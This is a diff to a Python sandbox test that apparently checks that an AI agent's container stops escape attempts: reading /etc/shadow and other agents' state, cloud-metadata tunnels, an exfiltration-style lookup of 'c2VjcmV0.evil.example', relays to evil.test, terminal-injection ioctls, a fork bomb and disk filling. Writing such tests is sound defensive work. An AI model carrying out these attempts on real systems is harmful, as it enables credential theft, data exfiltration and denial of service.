@@ -13,6 +13,21 @@ import sys
 import time
 from pathlib import Path
 
+from network import (
+    asks,
+    connects,
+    controls,
+    fetches,
+    hello,
+    opens,
+    relays,
+    requests,
+    resolves,
+    says,
+    sends,
+    tunnels,
+)
+
 libc = ctypes.CDLL(None, use_errno=True)
 
 
@@ -39,22 +54,6 @@ def writes(path, flags=0):
     return attempt
 
 
-def connects(family, address):
-    """Connect a stream."""
-
-    def attempt():
-        with socket.socket(family) as client:
-            client.settimeout(3)
-            client.connect(address)
-
-    return attempt
-
-
-def opens(family, kind=socket.SOCK_STREAM, protocol=0):
-    """Make a socket."""
-    return lambda: socket.socket(family, kind, protocol).close()
-
-
 def fills(path):
     """Write 256 MiB."""
 
@@ -62,60 +61,6 @@ def fills(path):
         with Path(path).open("wb", buffering=0) as file:
             for _ in range(256):
                 file.write(bytes(1 << 20))
-
-    return attempt
-
-
-def asks(request, allowed=None):
-    """Send a request to the proxy; complain of any answer but the one that is meant."""
-
-    def attempt():
-        with socket.create_connection(("127.0.0.1", 3128), 5) as client:
-            client.sendall(request.encode())
-            status = client.recv(200).decode(errors="replace").split(" ")
-        code = status[1] if len(status) > 1 else "closed"
-        if code != allowed:
-            raise ValueError(code)
-
-    return attempt
-
-
-def tunnels(host):
-    """Open a tunnel; complain of any answer but that there is one."""
-    request = f"CONNECT {host} HTTP/1.1\r\nHost: {host}\r\n\r\n"
-    return asks(request, allowed="200")
-
-
-def fetches(address):
-    """Ask a web server for a page; complain of any answer but a page."""
-
-    def attempt():
-        with socket.create_connection((address, 80), 5) as client:
-            client.sendall(f"GET / HTTP/1.1\r\nHost: {address}\r\n\r\n".encode())
-            status = client.recv(200).decode(errors="replace").split(" ")
-        if status[1:2] != ["200"]:
-            raise ValueError(status[1] if len(status) > 1 else "closed")
-
-    return attempt
-
-
-def resolves(name):
-    """Resolve a name."""
-    return lambda: socket.getaddrinfo(name, 443)
-
-
-def sends(address):
-    """Send a datagram and wait for an answer."""
-
-    def attempt():
-        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
-            client.settimeout(1)
-            client.connect(address)
-            client.send(
-                b"\x00\x07\x01\x00\x00\x01" + bytes(6) + b"\x04evil\x03com\x00\x00\x01\x00\x01"
-            )
-            answer = client.recv(512)
-        raise ValueError(f"rcode {answer[3] & 15}, {answer[7]} answers")
 
     return attempt
 
@@ -202,22 +147,70 @@ def types_for_others():
 
 
 def signals_everybody():
-    """Signal every process that can be signalled; complain if one is not ours."""
+    """Signal every process that is seen; complain if one that is not ours may be signalled."""
     seen = {int(one.name) for one in Path("/proc").iterdir() if one.name.isdigit()}
+    refused = None
     for pid in seen - {os.getpid(), 1}:
-        os.kill(pid, 0)
-        raise ValueError(f"it may signal {pid}")
+        try:
+            os.kill(pid, 0)
+        except ProcessLookupError:
+            continue
+        except PermissionError as error:
+            refused = error
+        else:
+            raise ValueError("it may signal others")
+    if refused:
+        raise refused
 
 
-def opens_many():
-    """Open more files than are allowed."""
-    held: list[int] = []
-    try:
-        for _ in range(5000):
-            held.append(os.open("/dev/null", os.O_RDONLY))
-    finally:
-        for one in held:
-            os.close(one)
+def many(make):
+    """Make descriptors until there may be no more."""
+
+    def attempt():
+        held = []
+        try:
+            for _ in range(5000):
+                held.append(make())
+        finally:
+            for one in held:
+                os.close(one)
+
+    return attempt
+
+
+def watches():
+    """Make an instance of inotify."""
+    made = libc.inotify_init1(0)
+    if made == -1:
+        code = ctypes.get_errno()
+        raise OSError(code, os.strerror(code))
+    return made
+
+
+def is_closed_to_set_uid():
+    """Complain of a file system in which files make somebody else of who executes them."""
+    if not os.statvfs("/usr").f_flag & os.ST_NOSUID:
+        raise ValueError("set-uid files count")
+
+
+def tells(path):
+    """Complain of a file that tells nothing, or is none."""
+
+    def attempt():
+        if not Path(path).read_bytes():
+            raise ValueError("empty")
+
+    return attempt
+
+
+def lists(path):
+    """Read a directory."""
+    return lambda: list(Path(path).iterdir())
+
+
+def types(request):
+    """Ask the terminal that standard input may be for a forged letter."""
+    return lambda: fcntl.ioctl(0, request, b"x")
 
 
 def lowers_its_score():
@@ -256,7 +249,7 @@ def has_no_foreign_variables():
                 everything += file.read()
         except OSError:
             pass
-    if "CARGO" in everything:
+    if "CLAW_CANARY" in everything:
         raise ValueError("it has variables of the supervisor")
 
 
@@ -264,12 +257,15 @@ def is_nobody_special():
     """Complain of any privilege."""
     with Path("/proc/self/status").open() as file:
         status = dict(line.rstrip("\n").split(":\t", 1) for line in file if ":\t" in line)
-    found = [status[name] for name in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb")]
+    # Who is not root cannot empty the bounding set outside of namespaces, and gains nothing by it.
+    ordinary = PLACE["user"]
+    sets = ("CapInh", "CapPrm", "CapEff", "CapAmb") + (() if ordinary else ("CapBnd",))
+    found = [status[name] for name in sets]
     if set(found) != {"0" * 16} or status["NoNewPrivs"] != "1" or status["Seccomp"] != "2":
         raise ValueError(f"{found}, {status['NoNewPrivs']}, {status['Seccomp']}")
     # Where there are no namespaces, each agent has one of many users.
-    own = os.getuid() == 1000 or 200000 <= os.getuid() <= 265535
-    if not own or set(os.getgroups()) - {1000}:
+    own = os.getuid() == 1000 or 200000 <= os.getuid() <= 265535 or os.getuid() == ordinary
+    if not own or set(os.getgroups()) - {1000, os.getgid()}:
         raise ValueError(f"user {os.getuid()}, groups {os.getgroups()}")
     if resource.getrlimit(resource.RLIMIT_CORE) != (0, 0):
         raise ValueError("it may dump core")
@@ -278,14 +274,23 @@ def is_nobody_special():
 PLACE = json.loads(sys.argv[1])
 FOREIGN, PORT, HOME = PLACE["foreign"], PLACE["port"], PLACE["home"]
 ABSTRACT = "\0" + PLACE["abstract"]
+SUPERVISOR, NEIGHBOUR = PLACE["supervisor"], PLACE["neighbour"]
+# Where agents have users of their own, a directory more keeps others out.
+OWN = "api" if PLACE["user"] else "sandbox/api"
+NEIGHBOURS = f"{HOME}/.openclaw/agents/neighbour/{OWN}/agent.sock"
+# Where a group of one's own would be, with either version.
+ROOT = Path("/sys/fs/cgroup/memory")
+GROUPS = str(ROOT if ROOT.exists() else ROOT.parent) + "/mine"
 # A host that the fleet file may allow, whose name leads to this machine.
 ALLOWED = f"localhost:{PORT}"
 ATTEMPTS = [
     (1, "shadow", reads("/etc/shadow")),
-    (1, "home of root", reads("/root/.bashrc")),
+    (1, "home of root", lists("/root")),
+    (1, "file of the host", reads(PLACE["secret"])),
     (1, "state of another agent", reads(f"{HOME}/.openclaw/store.db")),
     (2, "fleet file", reads(f"{HOME}/openclaw.yaml")),
     (2, "journal", reads(f"{HOME}/.openclaw/journal.db")),
+    (2, "data directory", lists(f"{HOME}/.openclaw")),
     (3, "environment of a host's process", reads(f"/proc/{FOREIGN}/environ")),
     (3, "environment of the first process", reads("/proc/1/environ")),
     (4, "foreign processes", is_alone),
@@ -298,6 +303,10 @@ ATTEMPTS = [
     (8, "metadata in hexadecimal", tunnels("0xa9fea9fe:80")),
     (8, "metadata mapped to IPv6", tunnels("[::ffff:169.254.169.254]:80")),
     (8, "metadata by name", tunnels("metadata.google.internal:80")),
+    (8, "metadata by an allowed name", tunnels("metadata.test:80")),
+    (9, "name of an open network", tunnels("turning.test:443")),
+    (9, "the same name, turned", tunnels("turning.test:443")),
+    (9, "public and private at once", tunnels("mixed.test:443")),
     (10, "private address by an allowed name", tunnels(ALLOWED)),
     (11, "loopback of the host", connects(socket.AF_INET, ("127.0.0.1", PORT))),
     (11, "loopback of the host by tunnel", tunnels(f"127.0.0.1:{PORT}")),
@@ -305,17 +314,28 @@ ATTEMPTS = [
     (13, "resolver on the internet", connects(socket.AF_INET, ("192.0.2.1", 53))),
     (13, "name that is not allowed", sends(("192.0.2.1", 53))),
     (13, "lookup", resolves("c2VjcmV0.evil.example")),
+    (14, "the listed host", says("listed.test", lambda: hello("listed.test"))),
+    (14, "another host", says("listed.test", lambda: hello("other.test"))),
+    (14, "no host", says("listed.test", lambda: hello(None))),
+    (14, "no TLS", says("listed.test", lambda: b"GET / HTTP/1.1\r\nHost: other.test\r\n\r\n")),
     (15, "user in a tunnel", tunnels(f"{ALLOWED}@{ALLOWED}")),
     (15, "port 0", tunnels("localhost:0")),
     (15, "two hosts", asks("GET http://a.example/ HTTP/1.1\r\nHost: a.example\r\nHost: b\r\n\r\n")),
     (15, "another host", asks("GET http://a.example/ HTTP/1.1\r\nHost: b.example\r\n\r\n")),
     (15, "folded line", asks("CONNECT a:443\rb HTTP/1.1\r\nHost: a\r\n\r\n")),
+    (16, "relay inside", relays("evil.test:443")),
+    (16, "relay inside to a private address", relays("10.0.0.1:443")),
+    (17, "server of another agent", connects(socket.AF_INET, ("127.0.0.1", NEIGHBOUR))),
+    (17, "host of another agent", tunnels("neighbours.test:443")),
+    (17, "socket of another agent", connects(socket.AF_UNIX, NEIGHBOURS)),
+    (17, "state of another agent", requests("GET", "/v1/agents/neighbour/state")),
+    (17, "own state", requests("GET", "/v1/state")),
     (18, "abstract socket of the host", connects(socket.AF_UNIX, ABSTRACT)),
     (19, "socket in a directory of the host", connects(socket.AF_UNIX, f"{HOME}/planted.sock")),
     (20, "socket of the engine", connects(socket.AF_UNIX, "/var/run/docker.sock")),
     (20, "socket of containerd", connects(socket.AF_UNIX, "/run/containerd/containerd.sock")),
     (20, "D-Bus", connects(socket.AF_UNIX, "/run/dbus/system_bus_socket")),
-    (21, "control socket", connects(socket.AF_UNIX, f"{HOME}/.openclaw/control.sock")),
+    (21, "control socket", controls(f"{HOME}/.openclaw/control.sock")),
     (22, "AF_VSOCK", opens(40)),
     (22, "AF_PACKET", opens(17, socket.SOCK_RAW)),
     (22, "AF_ALG", opens(38, socket.SOCK_SEQPACKET)),
@@ -328,14 +348,17 @@ ATTEMPTS = [
     (23, "descriptor of the first process", takes_a_descriptor),
     (24, "signal to a host's process", lambda: os.kill(FOREIGN, 0)),
     (24, "signal to everybody", signals_everybody),
+    (24, "signal to the supervisor", lambda: os.kill(SUPERVISOR, 0)),
     (25, "fork bomb", bursts),
     (27, "nice of -20", lambda: os.setpriority(os.PRIO_PROCESS, 0, -20)),
     (27, "real-time class", lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1))),
     (28, "system's files", writes("/usr/bin/new", os.O_CREAT)),
     (28, "root directory", writes("/new", os.O_CREAT)),
+    (28, "configuration of the system", writes("/etc/new", os.O_CREAT)),
     (28, "filling /tmp", fills("/tmp/full")),
     (28, "filling /dev/shm", fills("/dev/shm/full")),
-    (30, "many descriptors", opens_many),
+    (30, "many descriptors", many(lambda: os.open("/dev/null", os.O_RDONLY))),
+    (30, "many watches", many(watches)),
     (31, "io_uring_setup", lambda: call(425, 8, ctypes.create_string_buffer(256))),
     (31, "bpf", lambda: call(321, 0, ctypes.create_string_buffer(256), 72)),
     (31, "userfaultfd", lambda: call(323, 0)),
@@ -350,13 +373,18 @@ ATTEMPTS = [
     (32, "pivot_root", lambda: call(155, b"/tmp", b"/tmp")),
     (32, "chroot", lambda: os.chroot("/tmp")),
     (32, "setns", lambda: call(308, os.open("/proc/self/ns/net", os.O_RDONLY), 0)),
+    (33, "file system of set-uid files", is_closed_to_set_uid),
     (33, "set-uid root", gains("/usr/bin/su", "-c", "id")),
     (33, "user 0", lambda: os.setuid(0)),
     (34, "terminal", reads("/dev/tty")),
     (34, "typing for others", types_for_others),
+    (34, "letters of the terminal", types(0x5412)),
+    (34, "letters of the console", types(0x541C)),
     (35, "core_pattern", writes("/proc/sys/kernel/core_pattern")),
     (35, "sysrq", writes("/proc/sysrq-trigger")),
-    (36, "cgroup", lambda: Path("/sys/fs/cgroup/memory/mine").mkdir()),
+    (35, "command line of the kernel", tells("/proc/cmdline")),
+    (35, "keys of the kernel", tells("/proc/keys")),
+    (36, "cgroup", lambda: Path(GROUPS).mkdir()),
     (36, "own score", lowers_its_score),
     (36, "hard limits", lambda: resource.setrlimit(resource.RLIMIT_NOFILE, (9999, 9999))),
     (36, "cgroup namespace", lambda: call(272, 0x02000000)),
@@ -377,4 +405,6 @@ for row, what, attempt in ATTEMPTS:
     except (ValueError, subprocess.SubprocessError) as error:
         outcome = str(error)
     print(f"row {row} {what}: {outcome}", flush=True)
+if "calls" in PLACE:
+    subprocess.run([PLACE["calls"]], check=False)
 print("done", flush=True)
